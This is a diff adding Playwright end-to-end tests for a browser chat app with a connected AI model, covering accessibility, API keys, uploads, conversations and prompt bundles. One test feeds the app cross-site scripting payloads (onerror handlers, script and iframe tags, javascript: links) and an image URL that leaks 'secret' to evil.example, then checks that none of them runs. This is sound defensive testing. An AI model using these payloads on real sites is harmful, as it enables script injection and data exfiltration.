@@ -1,0 +1,198 @@
+import { createRequire } from "node:module";
+import { readFileSync } from "node:fs";
+import type { Page } from "@playwright/test";
+import { connect, expect, ready, test } from "../support/e2e/test.ts";
+
+const axeSource = readFileSync(createRequire(import.meta.url).resolve("axe-core/axe.min.js"), "utf8");
+
+/** Serious and critical issues axe finds, in words. */
+async function seriousIssues(page: Page): Promise<string[]> {
+  // Through the debugger: the page's policy refuses injected scripts.
+  await page.evaluate(axeSource);
+  return page.evaluate(async () => {
+    const { axe } = globalThis as unknown as {
+      axe: { run(): Promise<{ violations: { id: string; impact: string; nodes: { html: string }[] }[] }> };
+    };
+    const { violations } = await axe.run();
+    return violations
+      .filter((one) => one.impact === "serious" || one.impact === "critical")
+      .map((one) => `${one.id}: ${one.nodes.map((node) => node.html.slice(0, 120)).join(" | ")}`);
+  });
+}
+
+test("axe finds no serious issue on the first page, in a chat, and at phone width", async ({ home }) => {
+  expect(await seriousIssues(home)).toEqual([]);
+  await home.getByRole("button", { name: "Take the guided demo" }).click();
+  await expect(home.getByText("What was really done")).toBeVisible({ timeout: 45_000 });
+  expect(await seriousIssues(home)).toEqual([]);
+  await home.setViewportSize({ width: 390, height: 844 });
+  for (const tab of ["Files", "Log", "Chat"]) {
+    await home
+      .getByRole("tab", { name: tab })
+      .or(home.getByRole("button", { name: tab, exact: true }))
+      .first()
+      .click();
+    expect(await seriousIssues(home), tab).toEqual([]);
+  }
+  expect(await home.evaluate(() => document.documentElement.scrollWidth)).toBeLessThanOrEqual(390);
+});
+
+test("connecting a model from the first page: a wrong key is told in words, then it works", async ({
+  home,
+  model,
+}) => {
+  await home.getByLabel("Base URL").fill(model.url);
+  await home.getByLabel(/API key/).fill("sk-wrong");
+  await home.getByLabel("Model", { exact: true }).fill("scripted");
+  model.script([{ status: 401, body: { error: { message: "Incorrect API key provided: sk-wrong" } } }]);
+  await home.getByRole("button", { name: "Test", exact: true }).click();
+  await expect(home.getByText(/check the key/i)).toBeVisible();
+  expect(await home.content()).not.toContain("sk-wrong");
+  model.script([{ text: "ready" }]);
+  await home.getByRole("button", { name: "Test", exact: true }).click();
+  await expect(home.getByText(/answered|ready/i).last()).toBeVisible();
+  await home.getByRole("button", { name: "Save and start" }).click();
+  model.script([{ text: "Hello, person." }]);
+  await home.getByRole("textbox", { name: "Message" }).fill("Hi");
+  await home.keyboard.press("Enter");
+  await expect(home.getByText("Hello, person.")).toBeVisible();
+  expect(model.requests.at(-1)?.headers["authorization"]).toBe("Bearer sk-wrong");
+});
+
+test("files are added, land where the prompt says, and are sent with the message", async ({
+  home,
+  model,
+}) => {
+  await connect(home, model);
+  model.script([{ text: "Got them." }]);
+  const chooser = home.waitForEvent("filechooser");
+  await home.getByRole("button", { name: "Add files" }).click();
+  await (
+    await chooser
+  ).setFiles([
+    { name: "data.csv", mimeType: "text/csv", buffer: Buffer.from("a,b\n1,2\n") },
+    {
+      name: "照片.png",
+      mimeType: "image/png",
+      buffer: Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
+    },
+    { name: "big.bin", mimeType: "application/octet-stream", buffer: Buffer.alloc(20 * 1024 * 1024, 7) },
+  ]);
+  await expect(home.getByText("big.bin")).toBeVisible();
+  await home.getByRole("textbox", { name: "Message" }).fill("Look at these");
+  await home.getByRole("button", { name: "Send" }).click();
+  await expect(home.getByText("Got them.")).toBeVisible();
+  const files = await home.evaluate(async () => {
+    const session = await okcvm.open();
+    const listed = await session.workspace.list("upload");
+    const shell = await session.callTool("mshtools-shell", {
+      command: "wc -c < upload/big.bin; cat upload/data.csv",
+    });
+    return {
+      listed: listed.map((entry) => [entry.path.slice(session.workspace.root.length), entry.size]),
+      shell: shell.output,
+      root: session.workspace.root,
+    };
+  });
+  expect(files.listed).toEqual([
+    ["/upload/big.bin", 20 * 1024 * 1024],
+    ["/upload/data.csv", 8],
+    ["/upload/照片.png", 8],
+  ]);
+  expect(files.shell).toBe(`${20 * 1024 * 1024}\na,b\n1,2\n`);
+  const sent = JSON.stringify(model.requests.at(-1)?.body?.messages);
+  expect(sent).toContain(`${files.root}/upload/data.csv`);
+  expect(sent).toContain("照片.png");
+});
+
+test("hostile Markdown does nothing", async ({ home, model, strangers }) => {
+  await connect(home, model);
+  model.script([
+    {
+      text: [
+        '<img src=x onerror="window.pwned = 1"><script>window.pwned = 2</script>',
+        '<iframe srcdoc="<script>top.pwned = 3</script>"></iframe><svg onload="window.pwned = 4"></svg>',
+        "[link](javascript:window.pwned=5) ![leak](https://evil.example/?q=secret)",
+        '<a href="data:text/html,<script>opener.pwned=6</script>">data</a> <style>body { display: none }</style>',
+        '<form action="https://evil.example"><button>Pay</button></form> <math><mtext><img src=x onerror=window.pwned=7></mtext></math>',
+        "The end.",
+      ].join("\n\n"),
+    },
+  ]);
+  await home.getByRole("textbox", { name: "Message" }).fill("go");
+  await home.keyboard.press("Enter");
+  await expect(home.getByText("The end.")).toBeVisible();
+  expect(await home.evaluate(() => (globalThis as { pwned?: number }).pwned)).toBeUndefined();
+  const left = await home.evaluate(() => {
+    const log = document.querySelector("main");
+    return {
+      elements: log?.querySelectorAll(
+        "script, iframe[srcdoc], form[action], style, img[src^='http'], [onerror], [onload]",
+      ).length,
+      links: [...(log?.querySelectorAll("a") ?? [])]
+        .map((a) => a.protocol)
+        .filter((protocol) => !["http:", "https:", "mailto:"].includes(protocol)),
+    };
+  });
+  expect(left).toEqual({ elements: 0, links: [] });
+  expect(strangers).toEqual([]);
+});
+
+test("a conversation is renamed, deleted and brought back; a second tab is told, and can take over", async ({
+  home,
+  context,
+  app,
+}) => {
+  await home.evaluate(async () => {
+    const session = await okcvm.open();
+    await session.workspace.write("a.txt", "kept");
+    await okcvm.conversations.rename(session.id, "My work");
+    await okcvm.settings.set({ demo: true });
+  });
+  const list = home.getByRole("navigation", { name: "Conversations" });
+  await expect(list.getByText("My work")).toBeVisible();
+  await list.getByText("My work").hover();
+  await list.getByRole("button", { name: "Delete My work" }).click();
+  await expect(list.getByText("My work")).toBeHidden();
+  await home.getByRole("button", { name: "Undo" }).click();
+  await expect(list.getByText("My work")).toBeVisible();
+  await list.getByText("My work").click();
+  const second = await context.newPage();
+  await second.goto(app.url);
+  await ready(second);
+  await expect(second.getByText("open in another tab")).toBeVisible();
+  await second.getByRole("button", { name: "Use it here" }).click();
+  await expect(home.getByText("open in another tab")).toBeVisible();
+  await expect(second.getByText("open in another tab")).toBeHidden();
+  expect(await second.evaluate(async () => (await okcvm.open()).workspace.readText("a.txt"))).toBe("kept");
+});
+
+test("a bundle of one's own is used, and a bad one refused with line and reason", async ({ home, model }) => {
+  await connect(home, model);
+  model.script([{ text: "ok" }]);
+  const outcome = await home.evaluate(async () => {
+    const bad = await okcvm.settings
+      .loadBundle(
+        "prompt",
+        '{\n  "tools": [\n    {"name": "mshtools-shell", "parameters": {"type": "string"}}\n  ]\n}',
+      )
+      .catch((error: Error) => error.message);
+    const before = await okcvm.settings.bundle();
+    await okcvm.settings.loadBundle(
+      "You are a test. Today is {{date}}.",
+      '[{"name": "mshtools-todo_read", "description": "Mine.", "parameters": {"type": "object", "properties": {}}}]',
+    );
+    const session = await okcvm.open();
+    for await (const event of session.send("hi")) void event;
+    return { bad, before, names: okcvm.registry.names() };
+  });
+  expect(outcome.bad).toMatch(/line 3/);
+  expect(outcome.before.builtIn).toBe(true);
+  expect(outcome.names).toEqual(["mshtools-todo_read"]);
+  const body = model.requests.at(-1)?.body;
+  expect(body?.messages[0]?.content).toMatch(/^You are a test\. Today is \d{4}-\d\d-\d\d\.$/);
+  expect(body?.tools?.map((tool) => tool.function.description)).toEqual(["Mine."]);
+  await home.reload();
+  await ready(home);
+  expect(await home.evaluate(() => okcvm.registry.names())).toEqual(["mshtools-todo_read"]);
+});
